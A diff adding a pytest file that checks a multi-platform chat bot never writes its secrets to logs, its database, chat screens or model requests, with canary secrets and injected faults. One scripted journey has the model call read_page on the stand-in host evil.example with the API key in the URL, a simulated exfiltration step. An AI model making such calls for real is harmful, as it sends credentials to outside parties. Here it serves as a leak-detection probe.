@@ -1,0 +1,173 @@
+"""No secret is written anywhere: not in the log at its loudest, not in the database, not on any screen.
+
+Every secret setting holds a value of its own. What goes wrong on the way is chosen so that libraries raise errors
+that hold addresses, headers and keys.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from pydantic import SecretStr
+
+from bot import app
+from playground.faults import Fault
+from playground.model import Reply
+
+PASSWORD = "canary-of-the-database-password"
+MCP_KEY = "canary-of-an-mcp-header"
+MCP_VALUE = "canary-of-an-mcp-variable"
+SERVER = Path(__file__).parents[1] / "tools" / "mcp" / "servers" / "plain.py"
+
+
+def canaries() -> dict[str, str]:
+    """A value for every secret setting of the program."""
+    found: dict[str, str] = {}
+    for kind in app.settings_classes():
+        for name, field in kind.model_fields.items():
+            if isinstance(field.default, SecretStr):
+                found[name.upper()] = f"canary-of-{name.replace('_', '-')}-0123456789"
+    return found | {"DATABASES": f"crm=postgresql://reader:{PASSWORD}@127.0.0.1:9/crm"}
+
+
+@pytest.fixture
+def secrets(world: Any) -> dict[str, str]:
+    """All of them set, also in the world outside; those of the platforms are the emulators' own."""
+    own = {name: value for name, value in world.environment().items() if name.endswith("_TOKEN")}
+    found = canaries() | own
+    (world.data / "mcp.json").write_text(
+        json.dumps(
+            {
+                "mcpServers": {
+                    "far": {"url": "http://127.0.0.1:9/mcp", "headers": {"Authorization": f"Bearer {MCP_KEY}"}},
+                    "near": {"command": sys.executable, "args": [str(SERVER), "shout"], "env": {"API_KEY": MCP_VALUE}},
+                }
+            }
+        )
+    )
+    world.settings.update(found, MCP_CONFIG=str(world.data / "mcp.json"), LOG_LEVEL="DEBUG", TOOL_MODE="native")
+    world.settings.update(IMAGE_MODEL="openai:gpt-image-1", IMAGE_BASE_URL=world.model.base_url)
+    return found | {"password": PASSWORD, "MCP key": MCP_KEY, "MCP value": MCP_VALUE}
+
+
+def written(world: Any) -> dict[str, bytes]:
+    """Everything that the bot wrote anywhere."""
+    files = {
+        path.name: path.read_bytes() for path in world.data.iterdir() if path.name.startswith(("parley.db", "log"))
+    }
+    seen = [
+        f"{version.text}\n{version.markup}"
+        for server in (world.telegram, world.slack, world.discord)
+        for message in server.screen.messages
+        if message.author == "bot"
+        for version in message.versions
+    ]
+    told = [json.dumps(request.body, ensure_ascii=False) for request in world.model.requests]
+    return files | {"the screens": "\n".join(seen).encode(), "what the model was told": "\n".join(told).encode()}
+
+
+def assert_nothing_leaks(world: Any, secrets: dict[str, str]) -> None:
+    for place, content in written(world).items():
+        for name, value in secrets.items():
+            for form in {value, value.partition(":")[2] or value, json.dumps(value)[1:-1]}:
+                at = content.find(form.encode())
+                assert at < 0, f"{name} stands in {place}: {content[max(0, at - 200) : at + 80]!r}"
+
+
+def call(tool: str, **arguments: Any) -> Reply:
+    return Reply(calls=((tool, arguments),))
+
+
+def journeys(world: Any, secrets: dict[str, str]) -> dict[str, Callable[[bool], Reply]]:
+    """What the model does for the question of this name, before and after its tool has answered."""
+    key = secrets["OPENAI_API_KEY"]
+    refused = Reply.refusal(401, f"Incorrect API key provided: {key}. Header was Bearer {key}", code="invalid_api_key")
+    lost = Reply.refusal(400, f"POST https://user:{PASSWORD}@proxy.example/v1?key={key} failed")
+    return {
+        "search": lambda done: Reply("Found.") if done else call("search_web", query=key),
+        "page": lambda done: Reply("Read.") if done else call("read_page", url=f"https://evil.example/?{key}"),
+        "database": lambda done: Reply("Read.") if done else call("query_database", sql="SELECT 1"),
+        "image": lambda done: Reply("Drawn.") if done else call("generate_image", prompt="a fox"),
+        "fact": lambda done: Reply("Kept.") if done else call("remember", fact=f"the key is {key}"),
+        "later": lambda done: Reply("Set.") if done else call("remind_me", text=key, delay="1 second"),
+        "unknown": lambda done: Reply("None.") if done else call("no_such_tool", words=key),
+        "broken": lambda done: Reply("Sorry.") if done else Reply(calls=(("calculator", f'{{"expression": "{key}'),)),
+        "refused": lambda done: refused,
+        "lost": lambda done: lost,
+        "dropped": lambda done: Reply(f"The key is {key} and then", drop_after=12),
+        "error": lambda done: Reply("x", error_object=0, error={"message": f"Bearer {key} is over its limit"}),
+        "told": lambda done: Reply(f"It is {key}, {PASSWORD} and {MCP_KEY}.", reasoning=f"My key is {key}."),
+    }
+
+
+async def test_no_secret_is_written_anywhere_whatever_fails(world: Any, process: Any, secrets: dict[str, str]) -> None:
+    plans = journeys(world, secrets)
+
+    def script(body: Any) -> Reply:
+        asked = " ".join(str(message["content"]) for message in body["messages"] if message["role"] == "user")
+        name = asked.rsplit("about ", 1)[-1].split()[0]
+        return plans[name](body["messages"][-1]["role"] == "tool")
+
+    world.model.script = script
+    world.tavily.faults.add("search", Fault(status=200, body="this is no JSON"), times=2)
+    world.model.faults.add(
+        "images", Fault(status=500, body=json.dumps({"error": {"message": secrets["OPENAI_API_KEY"]}}))
+    )
+    telegram = world.telegram
+    telegram.faults.add("setMyCommands", Fault(drop="before"))
+    telegram.faults.add("sendChatAction", Fault(status=502), times=3)
+    telegram.faults.add("editMessageText", Fault(drop="before"), times=2)
+    telegram.faults.add("sendMessage", Fault(status=500), times=2)
+    world.slack.faults.add("chat.update", Fault(status=500), times=2)
+    world.discord.faults.add("POST /channels/{channel}/messages", Fault(status=500), times=2)
+    await process.start()
+    await world.slack.sockets.until_connected(1)
+    await world.discord.gateway.until_ready(1)
+    world.slack.person("U7", "Ada")
+    world.discord.person(7, "Ada")
+    channel, place = world.slack.direct("U7"), world.discord.direct(7)
+    for number, name in enumerate(plans, 100):
+        telegram.person(number, "Ada")
+        telegram.say(number, f"please do something about {name} {secrets['TAVILY_API_KEY']}", person=number)
+    telegram.say(100, f"/{secrets['ARK_API_KEY']}", person=100)
+    telegram.say(101, f"/model {secrets['ARK_API_KEY']}", person=101)
+    world.slack.say(channel, "please do something about told", person="U7")
+    world.discord.say(place, "please do something about told", person=7)
+
+    def answered() -> bool:
+        chats = [telegram.screen.of(str(number)) for number in range(100, 100 + len(plans))]
+        others = [world.slack.screen.of(channel), world.discord.screen.of(place.id)]
+        return all(chats) and all(others) and any("⏰" in one.text for one in telegram.screen.of("105"))
+
+    async with asyncio.timeout(40):
+        while not answered():
+            await asyncio.sleep(0.02)
+    assert await process.stop() == 0
+
+    assert "DEBUG" in process.said and "[secret removed]" in written(world)["parley.db"].decode(errors="replace")
+    assert_nothing_leaks(world, secrets)
+
+
+@pytest.mark.parametrize("form", ["console", "json"])
+async def test_no_secret_is_written_when_no_platform_can_be_reached(
+    form: str, world: Any, process: Any, secrets: dict[str, str]
+) -> None:
+    """Telegram's token is part of every address, and addresses are part of errors."""
+    world.settings.update(LOG_FORMAT=form, TELEGRAM_API_BASE_URL="http://127.0.0.1:9")
+    world.settings.update(
+        SLACK_API_BASE_URL="http://127.0.0.1:9/api/", DISCORD_API_BASE_URL="http://127.0.0.1:9/api/v10"
+    )
+    await process.start()
+
+    async with asyncio.timeout(20):
+        while not all(f"{name} cannot be reached" in process.said for name in ("telegram", "slack", "discord")):
+            await asyncio.sleep(0.02)
+    await process.stop()
+
+    assert_nothing_leaks(world, secrets)
